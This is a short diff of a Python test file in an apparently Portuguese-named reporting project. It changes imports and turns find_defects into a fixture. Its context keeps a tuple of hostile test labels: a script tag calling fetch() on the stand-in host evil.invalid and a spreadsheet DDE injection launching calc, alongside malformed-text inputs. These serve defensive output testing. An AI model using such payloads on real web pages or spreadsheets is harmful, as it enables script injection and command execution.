@@ -3,6 +3,7 @@
 import json
 import re
 import socket
+from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 from xml.etree import ElementTree
@@ -17,7 +18,6 @@ from boletim.app.flows.predict import _WRITERS
 from boletim.app.flows.verify import outcome_of, verify_file
 from boletim.contracts.configuration.file import load_config
 from boletim.contracts.files.whole_text import whole_text
-from boletim.reports.pdf.check import find_defects
 from boletim.tables.read import read_table
 
 LABELS = ("\ud800 half", "a\x00b", "<script>fetch('http://evil.invalid')</script>", "=cmd|' /C calc'!A0", "| x | \n---")
@@ -62,7 +62,7 @@ def run_folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
     return folder / "run"
 
 
-def test_every_file_of_the_run_is_whole(run_folder: Path) -> None:
+def test_every_file_of_the_run_is_whole(run_folder: Path, find_defects: Callable[[bytes], list[str]]) -> None:
     for name in ("audit.json", "card.json", "bom.json", "provenance.json"):
         text = (run_folder / name).read_text("utf-8")
         assert json.loads(text)
